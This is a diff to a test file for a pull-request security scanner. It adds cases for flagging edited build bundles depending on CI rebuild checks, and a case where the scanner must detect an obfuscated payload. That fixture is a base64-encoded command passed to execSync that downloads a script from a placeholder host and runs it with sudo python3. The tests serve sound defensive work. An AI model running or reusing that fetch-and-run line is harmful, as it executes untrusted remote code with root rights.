@@ -2,8 +2,8 @@ import { describe, expect, it } from 'vitest';
 import { createPathClassifier } from '../../../src/analyzers/classify-path.js';
 import type { CodeLanguage } from '../../../src/ecosystems/code/language.js';
 import { scanCodeChanges } from '../../../src/ecosystems/code/scan-code-changes.js';
-import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
-import { makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
+import type { SnapshotCheckRun, SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
+import { makeCheckRun, makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
 
 /**
  * Every code finding id, with a positive and a negative case in each listed language
@@ -333,6 +333,44 @@ describe('generated-code-edited', () => {
     expect(by('release-bot', 'User')).toEqual(['generated-code-edited']);
     // A payload in a bundle rebuilt with its source is not read there: the source is.
     expect(scan([bundle(), makeFile('src/main.ts', { patch: hunk(['  run();']) })]).some((f) => f.path === 'dist/index.js')).toBe(false);
+  });
+});
+
+describe('generated-code-edited: a bundle the repository compares with a rebuild (actions/checkout #605, 2026-11-27)', () => {
+  const rebuilt = makeFile('dist/index.js', { patch: hunk(['exports.toCommandValue = toCommandValue;'], []) });
+  const withChecks = (...checks: { name: string; status?: SnapshotCheckRun['status']; conclusion?: string | null }[]) =>
+    scanCodeChanges(
+      makeSnapshot({ title: 'update dist', files: [rebuilt], commits: [makeCommit({ message: 'update dist' })], checkRuns: checks.map((c) => makeCheckRun(c.name, { status: c.status ?? 'completed', conclusion: c.conclusion === undefined ? 'success' : c.conclusion })) }),
+      (path) => classifier.info(path),
+    ).map((f) => `${f.id} ${f.severity}`);
+
+  it('is quiet when a check that rebuilds dist/ and compares it passed on the head, low while it runs', () => {
+    expect(withChecks({ name: 'check-dist' })).toEqual([]);
+    expect(withChecks({ name: 'build' }, { name: 'Check dist/ / check-dist' })).toEqual([]);
+    expect(withChecks({ name: 'Check dist/ / check-dist', status: 'in_progress', conclusion: null })).toEqual(['generated-code-edited low']);
+    expect(withChecks({ name: 'Verify dist', status: 'queued', conclusion: null })).toEqual(['generated-code-edited low']);
+  });
+
+  it('reports the bundle (medium) when that check failed, and when no check compares it', () => {
+    expect(withChecks({ name: 'check-dist', conclusion: 'failure' })).toEqual(['generated-code-edited medium']);
+    expect(withChecks({ name: 'Check dist/', conclusion: 'cancelled' })).toEqual(['generated-code-edited medium']);
+    expect(withChecks({ name: 'build' }, { name: 'test (ubuntu-latest)' }, { name: 'distribute' })).toEqual(['generated-code-edited medium']);
+    expect(withChecks()).toEqual(['generated-code-edited medium']);
+  });
+});
+
+describe('generated-code-edited: what a rebuilt bundle carries is not a payload (tj-actions/changed-files #2769, create-pull-request #2878)', () => {
+  it('keeps payload findings on a bundle read as code, not the logic rules a rebuild of its libraries trips, nor the claim', () => {
+    const library = makeFile('dist/index.js', {
+      patch: hunk(
+        ['        if (usingSsl && this._ignoreSslError) {', '            agent.options = Object.assign(agent.options || {}, {', '                rejectUnauthorized: false', '            });', '        }'],
+        ['    canHandleAuthentication() {', '        return false;', '    }', "        if (!this.isAuthorized(req)) throw new Error('unauthorized');"],
+      ),
+    });
+    const ids = scan([library, makeFile('README.md', { patch: hunk(['returning **relative paths** from the project root.']) })], 'chore: update README.md').map((f) => f.id);
+    expect(ids).toEqual(['generated-code-edited']);
+    const payload = makeFile('dist/index.js', { patch: hunk(["  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc3VkbyBweXRob24z', 'base64').toString('utf-8'));"]) });
+    expect(scan([payload], 'chore: update README.md').map((f) => f.id)).toContain('obfuscated-code');
   });
 });
 
